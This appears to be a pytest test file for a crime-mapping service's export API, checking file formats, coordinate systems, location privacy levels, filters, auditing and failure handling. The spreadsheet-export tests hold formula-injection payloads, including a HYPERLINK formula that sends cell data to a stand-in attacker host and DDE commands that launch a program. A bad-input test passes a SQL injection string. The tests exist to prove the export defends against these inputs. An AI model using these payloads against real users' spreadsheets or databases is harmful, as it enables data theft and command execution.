"""Exports as each kind of caller meets them, opened the way analysts open them (GDAL's ogrinfo,
geopandas): a GeoPackage in British National Grid carrying its provenance and licence, CSV with
eastings and northings beside lon/lat, GeoJSON and FlatGeobuf; incidents at the caller's level
(exact, anonymous points, counts on cells with small ones held back, or nothing); filters; every
export audited; bad input a problem, never a 500."""
from __future__ import annotations

import asyncio
import csv
import io
import json
import math
import shutil
import socket
import subprocess
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import geopandas
import httpx
import psycopg
import pytest
from pyproj import Transformer
from sqlalchemy import text

from app.sharing import AGGREGATE_CELL_M
from tests.factories import LAT, LON, Caller, agency, dataset, person
from tests.factories import incidents as add_incidents

TO_BNG = Transformer.from_crs(4326, 27700, always_xy=True)
M_LON = 1 / (111_320 * math.cos(math.radians(LAT)))
M_LAT = 1 / 110_540
# Exact places of the police's incidents, 30-70 m apart and off any 100 m cell centre.
EXACT = [(LON + 13 * M_LON, LAT + 17 * M_LAT, "Burglary", "2024-01"),
         (LON + 63 * M_LON, LAT - 21 * M_LAT, "Burglary", "2024-01"),
         (LON - 37 * M_LON, LAT + 71 * M_LAT, "Vehicle crime", "2024-03"),
         (LON + 120 * M_LON, LAT + 130 * M_LAT, "Robbery", "2024-03")]
# The council's counts-only data: 6 incidents at one place, 2 at another 2 km east.
COUNCIL_BIG = (LON - 1000 * M_LON, LAT, "Noise", "2024-01", 6)
COUNCIL_SMALL = (LON + 2000 * M_LON, LAT, "Noise", "2024-01", 2)


def ogrinfo() -> str:
    exe = shutil.which("ogrinfo")
    assert exe, "ogrinfo is missing: `make system-deps` installs Debian's gdal-bin"
    return exe


@dataclass
class World:
    admin: Caller
    viewer: Caller
    police: Caller


@pytest.fixture
async def world(db, make_caller, client) -> World:
    admin = await make_caller("alpha", "admin")
    pid = admin.partnership_id
    police = await agency(db, pid, "Police", "police")
    council = await agency(db, pid, "Council", "council")
    ds = await dataset(db, pid, "police-crime", agency_id=police, name="Police crime")
    council_ds = await dataset(db, pid, "council-asb", agency_id=council, name="Council ASB")
    await add_incidents(db, pid, ds, EXACT, location_text="On or near 12 Secret Lane", external_ref="ref-1")
    await add_incidents(db, pid, council_ds, [COUNCIL_BIG, COUNCIL_SMALL])
    for d, level in ((ds, "sanitised"), (council_ds, "aggregate")):
        r = await client.put(f"/api/datasets/{d}/sharing", headers=admin.headers,
                             json={"rules": [{"grantee_role": "viewer", "level": level}]})
        assert r.status_code == 200, r.text
    return World(admin, await person(db, pid, "viewer", name="plain viewer"),
                 await person(db, pid, "viewer", agency_id=police, name="police viewer"))


async def download(client, who: Caller, layer: str, fmt: str, tmp_path: Path, **params) -> Path:
    r = await client.get(f"/api/exports/{layer}.{fmt}", headers=who.headers, params=params)
    assert r.status_code == 200, r.text
    assert f'filename="{who.slug}-{layer}' in r.headers["content-disposition"]
    assert r.headers["cache-control"] == "no-store"
    path = tmp_path / f"{who.role}-{who.principal_id}-{layer}.{fmt}"
    path.write_bytes(r.content)
    return path


def bng(lon: float, lat: float) -> tuple[float, float]:
    return TO_BNG.transform(lon, lat)


def near_any(x: float, y: float, places, within_m: float) -> bool:
    return any(math.hypot(x - px, y - py) < within_m for px, py in places)


EXACT_BNG = [bng(lon, lat) for lon, lat, *_ in EXACT]


# -- formats ------------------------------------------------------------------------------------------
async def test_geopackage_holds_the_layer_in_british_national_grid_with_its_provenance(client, world, tmp_path):
    path = await download(client, world.admin, "incidents", "gpkg", tmp_path, dataset="police-crime")
    info = subprocess.run([ogrinfo(), "-so", str(path), "incidents"], capture_output=True, text=True, check=True).stdout
    assert "Geometry: Point" in info and "Feature Count: 4" in info
    assert "British National Grid" in info and 'ID["EPSG",27700]' in info
    assert "LICENCE=Contains public sector information licensed under the Open Government Licence v3.0." in info
    assert "SOURCE=SaferMap, partnership alpha" in info
    assert "DATASETS=Police crime [police-crime] exact" in info
    assert "PERIOD=2024-01 to 2024-03" in info
    assert "SHARING=Police crime (alpha): exact positions" in info
    frame = geopandas.read_file(path, layer="incidents")
    assert frame.crs.to_epsg() == 27700
    assert sorted(frame.columns) == sorted(["id", "category", "month_label", "location_text", "lsoa_name", "outcome",
                                            "dataset", "level", "count", "geometry"])
    assert set(frame["level"]) == {"exact"} and set(frame["count"]) == {1}
    got = sorted((round(p.x, 2), round(p.y, 2)) for p in frame.geometry)
    assert got == sorted((round(x, 2), round(y, 2)) for x, y in EXACT_BNG)


async def test_csv_carries_eastings_and_northings_beside_lon_lat(client, world, tmp_path):
    path = await download(client, world.admin, "incidents", "csv", tmp_path, dataset="police-crime")
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    assert list(rows[0]) == ["id", "category", "month_label", "location_text", "lsoa_name", "outcome", "dataset",
                             "level", "count", "lon", "lat", "easting", "northing"]
    assert len(rows) == len(EXACT)
    for row in rows:
        x, y = bng(float(row["lon"]), float(row["lat"]))
        assert abs(x - float(row["easting"])) < 0.01 and abs(y - float(row["northing"])) < 0.01
    assert sorted((round(float(r["lon"]), 6), round(float(r["lat"]), 6)) for r in rows) == sorted(
        (round(lon, 6), round(lat, 6)) for lon, lat, *_ in EXACT)


async def test_outside_great_britain_eastings_are_in_the_partnerships_own_crs(client, make_caller, db, tmp_path):
    helsinki = await make_caller("helsinki", "admin", srid=3067)  # ETRS-TM35FIN
    ds = await dataset(db, helsinki.partnership_id, "poliisi")
    await add_incidents(db, helsinki.partnership_id, ds, [(24.9384, 60.1699, "Burglary", "2024-01")])
    rows = list(csv.DictReader(io.StringIO((await download(client, helsinki, "incidents", "csv", tmp_path)).read_text())))
    x, y = Transformer.from_crs(4326, 3067, always_xy=True).transform(24.9384, 60.1699)
    assert abs(float(rows[0]["easting"]) - x) < 0.01 and abs(float(rows[0]["northing"]) - y) < 0.01
    frame = geopandas.read_file(await download(client, helsinki, "incidents", "gpkg", tmp_path))
    assert frame.crs.to_epsg() == 3067


async def test_geojson_and_flatgeobuf_open_in_geopandas_and_gdal(client, world, tmp_path):
    path = await download(client, world.admin, "incidents", "geojson", tmp_path, dataset="police-crime")
    body = json.loads(path.read_text())
    assert body["type"] == "FeatureCollection" and len(body["features"]) == len(EXACT)
    assert body["safermap"]["datasets"][0]["key"] == "police-crime"
    assert body["safermap"]["licence"].startswith("Contains public sector information")
    frame = geopandas.read_file(path)
    assert frame.crs.to_epsg() == 4326 and len(frame) == len(EXACT)

    fgb = await download(client, world.admin, "incidents", "fgb", tmp_path, dataset="police-crime")
    info = subprocess.run([ogrinfo(), "-so", str(fgb), "incidents"], capture_output=True, text=True, check=True).stdout
    assert "Feature Count: 4" in info and "British National Grid" in info
    assert geopandas.read_file(fgb).crs.to_epsg() == 27700


async def test_lines_and_views_export_too(client, world, db, tmp_path):
    from tests.factories import camera, streets
    pid = world.admin.partnership_id
    await streets(db, pid, [("Market Street", [(LON - 0.002, LAT), (LON + 0.002, LAT)])], highway="primary")
    await camera(db, pid, "CAM-1")
    path = await download(client, world.viewer, "streets", "gpkg", tmp_path)
    frame = geopandas.read_file(path)
    assert len(frame) == 1 and frame.geometry.iloc[0].geom_type == "MultiLineString" and frame.crs.to_epsg() == 27700
    rows = list(csv.DictReader(io.StringIO((await download(client, world.viewer, "streets", "csv", tmp_path)).read_text())))
    assert rows[0]["name"] == "Market Street" and rows[0]["wkt"].startswith("LINESTRING")
    coverage = geopandas.read_file(await download(client, world.viewer, "coverage", "gpkg", tmp_path))
    assert list(coverage["reference"]) == ["CAM-1"] and coverage.geometry.iloc[0].geom_type == "MultiPolygon"
    gaps = list(csv.DictReader(io.StringIO((await download(client, world.admin, "gaps", "csv", tmp_path)).read_text())))
    # CAM-1 (a default camera at the centre) covers one incident near it; the other 11 are gaps
    assert len(gaps) == 11 and {g["level"] for g in gaps} == {"exact"}
    cams = list(csv.DictReader(io.StringIO((await download(client, world.viewer, "cameras", "csv", tmp_path)).read_text())))
    assert [c["reference"] for c in cams] == ["CAM-1"]


async def test_a_file_export_leaves_no_temporary_file_behind(client, world, tmp_path, monkeypatch):
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    r = await client.get("/api/exports/incidents.gpkg", headers=world.admin.headers)
    assert r.status_code == 200 and int(r.headers["content-length"]) == len(r.content) > 0
    assert list(tmp_path.iterdir()) == []


async def test_an_export_that_fails_half_way_leaves_no_transaction_open(client, world, db, monkeypatch, tmp_path):
    """A writer that fails after its first chunk: the cursor's transaction ends with it, and no
    pooled connection is left 'idle in transaction' holding locks for the next request."""
    import tempfile

    from app.exports import query, writers

    def failing_write(reader, *args, **kwargs):
        next(iter(reader))
        raise OSError("disk full")

    monkeypatch.setattr(query, "CHUNK", 1)
    monkeypatch.setattr(writers, "write_arrow", failing_write)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    try:
        r = await client.get("/api/exports/incidents.gpkg", headers=world.admin.headers)
        assert r.status_code == 500
    except OSError:
        pass  # the test transport hands on what the app answered with a 500
    stuck = (await db.execute(text(
        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
        "AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"))).scalar_one()
    assert stuck == 0
    assert list(tmp_path.iterdir()) == []
    assert (await db.execute(text("SELECT count(*) FROM audit_event WHERE action = 'export'"))).scalar_one() == 0
    monkeypatch.undo()
    r = await client.get("/api/exports/incidents.csv", headers=world.admin.headers)
    assert r.status_code == 200 and r.text.count("\n") == 13


async def test_an_export_with_nothing_in_it_is_still_a_valid_file(client, world, tmp_path):
    params = {"from": "2020-01", "to": "2020-02"}
    path = await download(client, world.admin, "incidents", "gpkg", tmp_path, **params)
    assert len(geopandas.read_file(path, layer="incidents")) == 0
    assert json.loads((await download(client, world.admin, "incidents", "geojson", tmp_path, **params)).read_text())[
        "features"] == []
    assert (await download(client, world.admin, "incidents", "csv", tmp_path, **params)).read_text().count("\n") == 1


async def test_rows_streamed_in_many_chunks_make_the_same_files(client, world, tmp_path, monkeypatch):
    from app.exports import query
    whole = json.loads((await download(client, world.admin, "incidents", "geojson", tmp_path)).read_text())
    monkeypatch.setattr(query, "CHUNK", 1)
    parts = json.loads((await download(client, world.admin, "incidents", "geojson", tmp_path)).read_text())
    assert sorted(f["id"] for f in parts["features"]) == sorted(f["id"] for f in whole["features"])
    assert len(geopandas.read_file(await download(client, world.admin, "incidents", "gpkg", tmp_path))) == len(
        whole["features"])


# -- sharing ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["gpkg", "fgb", "geojson", "csv"])
async def test_a_sanitised_viewer_never_gets_an_exact_location(client, world, tmp_path, fmt):
    path = await download(client, world.viewer, "incidents", fmt, tmp_path)
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(path.read_text())))
        points = [(float(r["easting"]), float(r["northing"])) for r in rows]
        props = rows
    else:
        frame = geopandas.read_file(path).to_crs(27700)
        points = [(p.x, p.y) for p in frame.geometry]
        props = frame.drop(columns="geometry").to_dict("records")
    assert points, "the viewer sees the police's incidents at anonymous points"
    for x, y in points:
        assert not near_any(x, y, EXACT_BNG, 10), "an exact location left in an export"
    levels = {str(p["level"]) for p in props}
    assert levels == {"sanitised", "aggregate"}
    for p, (x, y) in zip(props, points, strict=True):
        assert "Secret Lane" not in str(p["location_text"])
        if p["level"] == "sanitised":  # no streets here: the centre of the incident's 100 m cell
            assert abs(x % 100 - 50) < 0.01 and abs(y % 100 - 50) < 0.01
        else:  # counts-only: the centre of a square of the one counts grid, only squares of 5 or more
            half = AGGREGATE_CELL_M / 2
            assert abs(x % AGGREGATE_CELL_M - half) < 0.01 and abs(y % AGGREGATE_CELL_M - half) < 0.01
            assert int(p["count"]) == COUNCIL_BIG[4]


async def test_counts_only_data_comes_as_cells_with_small_counts_held_back(client, world, tmp_path):
    frame = geopandas.read_file(await download(client, world.viewer, "incidents", "gpkg", tmp_path))
    cells = frame[frame["level"] == "aggregate"]
    assert list(cells["count"]) == [6]  # the cell of 2 is held back
    body = json.loads((await download(client, world.viewer, "incidents", "geojson", tmp_path)).read_text())
    cell = next(f for f in body["features"] if f["properties"]["level"] == "aggregate")
    assert "id" not in cell and cell["properties"]["count"] == 6  # RFC 7946: an id is never null
    assert cells["category"].isna().all() and cells["id"].isna().all()
    assert int(frame[frame["level"] == "sanitised"]["count"].sum()) == len(EXACT)


async def test_each_caller_gets_their_own_level(client, world, make_caller, tmp_path):
    police = geopandas.read_file(await download(client, world.police, "incidents", "gpkg", tmp_path))
    assert set(police[police["dataset"] == "police-crime"]["level"]) == {"exact"}
    other = await make_caller("beta", "admin")
    nothing = json.loads((await download(client, other, "incidents", "geojson", tmp_path)).read_text())
    assert nothing["features"] == [] and nothing["safermap"]["datasets"] == []


async def test_a_session_cookie_exports_at_the_same_level_as_the_token(client, world, db):
    r = await client.post("/auth/session", headers=world.viewer.headers)
    assert r.status_code == 204
    r = await client.get("/api/exports/incidents.geojson")  # the cookie alone
    assert r.status_code == 200
    features = r.json()["features"]
    assert {f["properties"]["level"] for f in features} == {"sanitised", "aggregate"}
    for f in features:
        assert not near_any(*bng(*f["geometry"]["coordinates"]), EXACT_BNG, 10)
    client.cookies.clear()
    who = (await db.execute(text("SELECT principal_id FROM audit_event WHERE action = 'export'"))).scalar_one()
    assert who == world.viewer.principal_id


async def test_a_county_hub_exports_another_partnerships_data_only_as_granted(client, world, make_caller, db, tmp_path):
    county = await make_caller("county", "admin")
    hub = await agency(db, county.partnership_id, "County hub", "other")
    analyst = await person(db, county.partnership_id, "analyst", agency_id=hub, name="hub analyst")
    ds = (await db.execute(text("SELECT id FROM dataset WHERE source_key = 'police-crime'"))).scalar_one()
    r = await client.put(f"/api/datasets/{ds}/sharing", headers=world.admin.headers, json={"rules": [
        {"grantee_role": "viewer", "level": "sanitised"}, {"grantee_agency": hub, "level": "sanitised"}]})
    assert r.status_code == 200, r.text
    path = await download(client, analyst, "incidents", "gpkg", tmp_path)
    frame = geopandas.read_file(path)
    assert set(frame["dataset"]) == {"police-crime"} and set(frame["level"]) == {"sanitised"}  # never the council's
    for p in frame.geometry:
        assert not near_any(p.x, p.y, EXACT_BNG, 10)
    info = subprocess.run([ogrinfo(), "-so", str(path), "incidents"], capture_output=True, text=True, check=True).stdout
    assert "SHARING=Police crime (alpha): anonymous points (not the exact places)." in info


# -- filters ------------------------------------------------------------------------------------------
async def test_filters_are_those_of_the_incidents_api(client, world, tmp_path):
    async def ids(**params) -> list[int]:
        body = json.loads((await download(client, world.admin, "incidents", "geojson", tmp_path, **params)).read_text())
        return sorted(f["properties"]["category"] for f in body["features"])

    assert await ids(**{"from": "2024-03", "to": "2024-03"}) == ["Robbery", "Vehicle crime"]
    assert await ids(category="burglary") == ["Burglary", "Burglary"]
    assert await ids(dataset="council-asb") == ["Noise"] * 8
    box = f"{LON - 0.0001},{LAT - 0.001},{LON + 0.002},{LAT + 0.0005}"
    assert await ids(bbox=box, dataset="police-crime") == ["Burglary", "Burglary"]


async def test_a_cql2_filter_narrows_an_export_as_it_narrows_an_ogc_page(client, world, settings, tmp_path):
    """What an analyst filtered on /ogc they can export with the same CQL2, text or JSON, through the
    API and the CLI; a filter naming what is not queryable is a 400 before anything is read."""
    async def categories(**params) -> list[str]:
        body = json.loads((await download(client, world.admin, "incidents", "geojson", tmp_path, **params)).read_text())
        return sorted(f["properties"]["category"] for f in body["features"])

    flt = "category IN ('Robbery', 'Vehicle crime') OR (category = 'Burglary' AND month < '2024-02')"
    ogc = await client.get("/ogc/collections/incidents/items", params={"filter": flt, "limit": 1000},
                           headers=world.admin.headers)
    assert ogc.status_code == 200
    assert await categories(filter=flt) == sorted(f["properties"]["category"] for f in ogc.json()["features"])
    as_json = json.dumps({"op": "=", "args": [{"property": "category"}, "Robbery"]})
    assert await categories(filter=as_json, **{"filter-lang": "cql2-json"}) == ["Robbery"]
    # The viewer's counts-only rows are filtered before they are counted: no cell of Noise is left.
    for params, cells in (({}, 1), ({"filter": "category <> 'Noise'"}, 0)):
        viewer = await client.get("/api/exports/incidents.csv", headers=world.viewer.headers, params=params)
        assert viewer.status_code == 200
        assert sum(1 for row in csv.DictReader(io.StringIO(viewer.text)) if row["level"] == "aggregate") == cells
    for bad in ("nosuch = 1", "category =", "geometry = 'x'"):
        r = await client.get("/api/exports/incidents.csv", headers=world.admin.headers, params={"filter": bad})
        assert r.status_code == 400 and r.headers["content-type"].startswith("application/problem+json"), bad

    from app.cli_exports import run_export
    from app.domain_errors import InvalidValue
    out = tmp_path / "robbery.csv"
    done = await run_export(settings, "alpha", "incidents", "csv", out, cql="category = 'Robbery'")
    assert done.rows == (await categories(filter=as_json, **{"filter-lang": "cql2-json"})).count("Robbery")
    with pytest.raises(InvalidValue):
        await run_export(settings, "alpha", "incidents", "csv", tmp_path / "x.csv", cql="nosuch = 1")
    assert not (tmp_path / "x.csv").exists()


# -- audit --------------------------------------------------------------------------------------------
async def test_every_export_is_audited_and_exact_ones_as_exact_views(client, world, db, tmp_path):
    await download(client, world.viewer, "incidents", "csv", tmp_path)
    await download(client, world.admin, "incidents", "gpkg", tmp_path, category="burglary")
    rows = (await db.execute(text(
        "SELECT action, principal_id, target, detail FROM audit_event "
        "WHERE action IN ('export', 'view.exact') ORDER BY id"))).all()
    assert [(r.action, r.principal_id) for r in rows] == [
        ("export", world.viewer.principal_id), ("export", world.admin.principal_id),
        ("view.exact", world.admin.principal_id)]
    assert rows[0].detail["levels"] == ["aggregate", "sanitised"] and rows[0].detail["format"] == "csv"
    assert rows[1].target == "api/exports/incidents.gpkg" and rows[1].detail["rows"] == 2
    assert rows[1].detail["filters"]["categories"] == ["Burglary"]


async def test_the_cli_exports_as_the_partnerships_administrator_and_is_audited(world, settings, db, tmp_path):
    from app.cli_exports import run_export
    from app.domain_errors import UnknownItem
    out = tmp_path / "alpha.gpkg"
    done = await run_export(settings, "alpha", "incidents", "gpkg", out, date_from="2024-01", date_to="2024-06")
    assert done.rows == len(EXACT) + sum(n for *_, n in (COUNCIL_BIG, COUNCIL_SMALL))
    assert done.levels == ["exact"]
    frame = geopandas.read_file(out)
    assert frame.crs.to_epsg() == 27700 and set(frame["level"]) == {"exact"}
    assert not list(tmp_path.glob(".*part*"))
    row = (await db.execute(text("SELECT principal_name, target, detail FROM audit_event WHERE action = 'export'"))).one()
    assert row.principal_name == "cli" and row.target == "cli/export/incidents.gpkg" and row.detail["via"] == "cli"
    with pytest.raises(UnknownItem):
        await run_export(settings, "no-such", "incidents", "csv", tmp_path / "x.csv")
    with pytest.raises(UnknownItem):
        await run_export(settings, "alpha", "no-such-layer", "csv", tmp_path / "x.csv")


# -- bad input ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(("path", "params", "status"), [
    ("/api/exports/nothing.gpkg", {}, 404),
    ("/api/exports/incidents.shp", {}, 400),
    ("/api/exports/incidents.gpkg.gpkg", {}, 404),
    ("/api/exports/incidents.csv", {"bbox": "1,2,3"}, 400),
    ("/api/exports/incidents.csv", {"bbox": "nan,0,1,1"}, 400),
    ("/api/exports/incidents.csv", {"bbox": "x" * 500}, 422),
    ("/api/exports/incidents.csv", {"from": "2024-13"}, 400),
    ("/api/exports/incidents.csv", {"from": "2024-05", "to": "2024-01"}, 400),
    ("/api/exports/incidents.csv", {"category": ",".join(f"c{i}" for i in range(60))}, 400),
    ("/api/exports/incidents.csv", {"dataset": "\x00"}, 400),
    ("/api/exports/incidents.csv", {"dataset": "é'; DROP TABLE incident; --"}, 200),
    ("/api/exports/%00.csv", {}, 404),
])
async def test_bad_input_is_a_problem_never_a_500(client, world, path, params, status):
    r = await client.get(path, headers=world.viewer.headers, params=params)
    assert r.status_code == status, r.text
    if status != 200:
        assert r.headers["content-type"].startswith("application/problem+json")


async def test_nobody_exports_without_signing_in(client, world):
    r = await client.get("/api/exports/incidents.csv")
    assert r.status_code == 401 and r.headers["content-type"].startswith("application/problem+json")


# -- spreadsheets -------------------------------------------------------------------------------------
HOSTILE = {  # police.uk column -> text a spreadsheet would run as a formula
    "Crime type": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "Location": "+cmd|' /C calc'!A0",
    "LSOA name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Last outcome category": "-2+3+cmd|' /C calc'!A0",
}


async def test_csv_text_never_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(client, make_caller, settings,
                                                                                     tmp_path):
    """Partner data imported the normal way (a police.uk file), with text that Excel or LibreOffice
    would take as formulas: the CSV export defends each such cell with a leading ' (OWASP), while
    negative longitudes and every number stay plain numbers; other formats keep the text as it is."""
    from rich.console import Console

    from app.ingest.police_uk import import_paths
    admin = await make_caller("hostile", "admin")
    header = ["Crime ID", "Month", "Reported by", "Falls within", "Longitude", "Latitude", "Location", "LSOA code",
              "LSOA name", "Crime type", "Last outcome category", "Context"]
    row = {"Crime ID": "x1", "Month": "2024-01", "Reported by": "Test Constabulary",
           "Falls within": "Test Constabulary", "Longitude": "-2.242600", "Latitude": "53.480800",
           "LSOA code": "E01005001", "Context": "", **HOSTILE}
    source = tmp_path / "2024-01-test-constabulary-street.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, header)
        writer.writeheader()
        writer.writerow(row)
    assert await import_paths(settings, [source], "hostile", Console(file=io.StringIO())) is True

    r = await client.get("/api/exports/incidents.csv", headers=admin.headers)
    assert r.status_code == 200
    [got] = list(csv.DictReader(io.StringIO(r.text)))
    assert got["category"] == "'" + HOSTILE["Crime type"]
    assert got["location_text"] == "'" + HOSTILE["Location"]
    assert got["lsoa_name"] == "'" + HOSTILE["LSOA name"]
    assert got["outcome"] == "'" + HOSTILE["Last outcome category"]
    # numbers are written as numbers: a minus sign that is a number's is not defended
    assert got["lon"].startswith("-2.2426") and float(got["lon"]) == pytest.approx(-2.2426)
    x, y = bng(-2.2426, 53.4808)
    assert float(got["easting"]) == pytest.approx(x, abs=0.01) and float(got["northing"]) == pytest.approx(y, abs=0.01)
    assert got["id"].isdigit() and got["count"] == "1"
    # only the CSV, which spreadsheets open, is defended: GeoJSON carries the text as it came
    feature = (await client.get("/api/exports/incidents.geojson", headers=admin.headers)).json()["features"][0]
    assert feature["properties"]["category"] == HOSTILE["Crime type"]
    assert feature["properties"]["location_text"] == HOSTILE["Location"]


def test_the_csv_guard_defends_text_at_any_number_of_positions_and_leaves_numbers():
    from app.csv_cells import TRIGGERS, guard
    for first in TRIGGERS:
        assert guard([1])((7, first + "x", -2.24)) == [7, "'" + first + "x", -2.24]
    assert guard([0, 2])(("=a", -2.24, "@b", None)) == ["'=a", -2.24, "'@b", None]
    safe = ("Burglary", -2.24, "", None)
    assert guard([0, 2, 3])(safe) is safe and guard([])(("=a",)) == ("=a",)


# -- failures -----------------------------------------------------------------------------------------
@pytest.fixture
async def served(app) -> AsyncIterator[str]:
    """The test app under uvicorn in this event loop, on a loopback port: what a client sees of a
    broken answer is the server's doing, which the in-process transport does not show."""
    import uvicorn
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, lifespan="off", log_level="critical"))
    serving = asyncio.create_task(server.serve(sockets=[sock]))
    try:
        while not server.started:
            if serving.done():
                await serving  # it failed to start: say why
                raise RuntimeError("uvicorn stopped before it started")
            await asyncio.sleep(0.01)
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        await serving


@dataclass
class Held:
    """The export's read, held at a point of the test's choosing (no timing involved)."""
    before_rows: int
    held: asyncio.Event = field(default_factory=asyncio.Event)
    resume: asyncio.Event = field(default_factory=asyncio.Event)
    backend: int | None = None

    async def kill_backend(self, database_url: str) -> None:
        await asyncio.wait_for(self.held.wait(), 60)
        async with await psycopg.AsyncConnection.connect(database_url, autocommit=True) as admin:
            await admin.execute("SELECT pg_terminate_backend(%s)", (self.backend,))
        self.resume.set()


@pytest.fixture
def hold_export(monkeypatch):
    """hold_export(n): the next export's read stops after n rows (chunks of 1 row) until resumed."""
    from app.exports import query
    real_stream = query.stream

    def hold(before_rows: int) -> Held:
        point = Held(before_rows)

        async def stream(conn, sql, params, chunk=None):
            point.backend = conn.get_server_pid()
            if before_rows == 0:
                point.held.set()
                await point.resume.wait()
            rows = 0
            async for got in real_stream(conn, sql, params, 1):
                yield got
                rows += len(got)
                if rows == before_rows:
                    point.held.set()
                    await point.resume.wait()

        monkeypatch.setattr(query, "stream", stream)
        return point

    return hold


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
async def test_a_streamed_export_the_database_fails_half_way_is_a_broken_download(served, hold_export, world,
                                                                                 database_url, caplog, fmt):
    """The export's database backend is killed after its first rows went out (status 200 and
    headers sent): over real HTTP the client must see a transfer cut off, never a well-formed file
    that silently lacks rows; and the failure is logged."""
    point = hold_export(1)
    async with httpx.AsyncClient(timeout=60) as http, \
            http.stream("GET", f"{served}/api/exports/incidents.{fmt}", headers=world.admin.headers) as r:
        assert r.status_code == 200
        await point.kill_backend(database_url)
        with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
            await r.aread()
    assert any("incidents." + fmt in rec.getMessage() and "cut off after 1 rows" in rec.getMessage()
               for rec in caplog.records), [rec.getMessage() for rec in caplog.records]


async def test_a_streamed_export_that_fails_before_its_first_row_is_a_problem_not_a_200(served, hold_export, world,
                                                                                      database_url):
    point = hold_export(0)
    async with httpx.AsyncClient(timeout=60) as http:
        answer = asyncio.create_task(http.get(f"{served}/api/exports/incidents.csv", headers=world.admin.headers))
        await point.kill_backend(database_url)
        r = await answer
    assert r.status_code == 500 and r.headers["content-type"].startswith("application/problem+json")
    assert "request id" in r.json()["detail"]



@pytest.mark.parametrize("fmt", ["csv", "gpkg"])
async def test_an_export_whose_statement_is_cancelled_before_its_first_row_is_a_503_to_narrow(client, hold_export,
                                                                                             world, database_url,
                                                                                             fmt):
    """The export's statement waits on a lock and is cancelled (as statement_timeout would): a
    problem saying it took too long, as for any other request, not a 500 or a 200 with no rows."""
    point = hold_export(0)
    answer = asyncio.create_task(client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers))
    await asyncio.wait_for(point.held.wait(), 60)
    async with await psycopg.AsyncConnection.connect(database_url) as locker, \
            await psycopg.AsyncConnection.connect(database_url, autocommit=True) as watcher:
        await locker.execute("LOCK TABLE incident IN ACCESS EXCLUSIVE MODE")
        point.resume.set()
        # (watched from a connection outside any transaction: one sees pg_stat_activity as it was
        # when its transaction first looked)
        for _ in range(1200):  # up to a minute for the export's statement to reach the lock
            waiting = await (await watcher.execute(
                "SELECT wait_event_type = 'Lock' FROM pg_stat_activity WHERE pid = %s", (point.backend,))).fetchone()
            if waiting and waiting[0]:
                break
            await asyncio.sleep(0.05)
        await watcher.execute("SELECT pg_cancel_backend(%s)", (point.backend,))
        await locker.rollback()
    r = await answer
    assert r.status_code == 503 and r.headers["content-type"].startswith("application/problem+json")
    assert r.json()["title"] == "Too slow"


# -- load ---------------------------------------------------------------------------------------------
async def test_past_the_concurrency_cap_an_export_is_refused_503_with_retry_after(app, client, world, db):
    """Every slot held (as running exports hold them): the next export is refused at once, a
    problem with Retry-After, and not audited; once one is given back, exports run again."""
    slots = app.state.export_slots
    assert slots.free == slots.size == app.state.settings.resolved_export_concurrency()
    held = [slots.take() for _ in range(slots.size)]
    try:
        for fmt in ("csv", "gpkg"):
            r = await client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers)
            assert r.status_code == 503 and r.headers["content-type"].startswith("application/problem+json")
            assert int(r.headers["retry-after"]) > 0 and "export" in r.json()["detail"]
        assert (await db.execute(text("SELECT count(*) FROM audit_event WHERE action = 'export'"))).scalar_one() == 0
    finally:
        held.pop().release()
    for fmt in ("csv", "geojson", "gpkg", "fgb"):
        r = await client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers)
        assert r.status_code == 200
    for slot in held:
        slot.release()
    assert slots.free == slots.size  # every export gave its slot back


async def test_exports_that_fail_are_refused_or_are_abandoned_give_their_slot_back(app, client, served, hold_export,
                                                                                     world):
    slots = app.state.export_slots
    for path in ("/api/exports/nothing.csv", "/api/exports/incidents.shp", "/api/exports/incidents.csv?from=x"):
        assert (await client.get(path, headers=world.admin.headers)).status_code in (400, 404)
    assert slots.free == slots.size
    point = hold_export(1)
    async with httpx.AsyncClient(timeout=60) as http, \
            http.stream("GET", f"{served}/api/exports/incidents.csv", headers=world.admin.headers) as r:
        assert r.status_code == 200
        await asyncio.wait_for(point.held.wait(), 60)
        assert slots.free == slots.size - 1  # held while the answer is being sent
    point.resume.set()  # the client has gone half-way
    for _ in range(1200):  # up to a minute for the server to notice (when it next writes)
        if slots.free == slots.size:
            break
        await asyncio.sleep(0.05)
    assert slots.free == slots.size
